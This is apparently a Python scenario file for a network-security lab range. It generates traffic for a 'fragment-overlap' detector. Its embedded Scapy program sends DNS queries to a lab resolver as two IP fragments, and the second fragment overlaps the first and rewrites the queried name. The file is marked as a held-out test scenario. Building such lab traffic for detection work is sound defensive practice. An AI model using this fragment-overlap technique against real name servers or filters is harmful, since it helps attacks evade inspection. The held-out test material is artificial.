"""Questions for a name server whose second fragment rewrites the name that the first one asked for."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
import sys
target = sys.argv[1]
def question(name):
    words = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    return b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + words + b"\\x00\\x00\\x01\\x00\\x01"
for number in range(6):
    names = (b"intranetportal00.range.example", b"evilevilevil%04d.range.example" % number)
    datagrams = [bytes(IP(dst=target) / UDP(sport=41000 + number, dport=53) / Raw(question(one)))[20:]
                 for one in names]
    base = dict(dst=target, id=9100 + number, proto=17)
    send(IP(**base, frag=0, flags="MF") / Raw(datagrams[0][:40]))
    send(IP(**base, frag=2) / Raw(datagrams[1][16:]))
    time.sleep(2)
"""


def run(net: Range) -> None:
    attacker, resolver = net.inside("attacker"), net.inside("resolver", 54)
    servers.resolver(resolver)
    net.everyday()
    # Whole answers in fragments that do not lie over each other.
    command = f"dig +notcp +ignore +bufsize=4096 +tries=1 +timeout=2 @{resolver.ip} big.range.example TXT"
    net.loop(net.inside("pc1"), command, 1.1)
    net.quiet(4)
    with net.attack(
        "fragment-overlap",
        by=attacker,
        victims=[resolver],
        frames=f"ip dst host {resolver.ip} and ip[6:2] & 0x3fff != 0",
        responses=f"src host {resolver.ip} and dst host {attacker.ip}",
    ):
        net.scapy(attacker, PROGRAM, resolver.ip)
    net.quiet(3)


SCENARIO = Scenario(
    name="fragment-overlap-held-query",
    about="Six questions for a name server in two fragments each, the second of which lies over the first.",
    detectors=("fragment-overlap",),
    tools={"named": "bind9"},
    held_out=True,
    snap_octets=120,
    run=run,
)
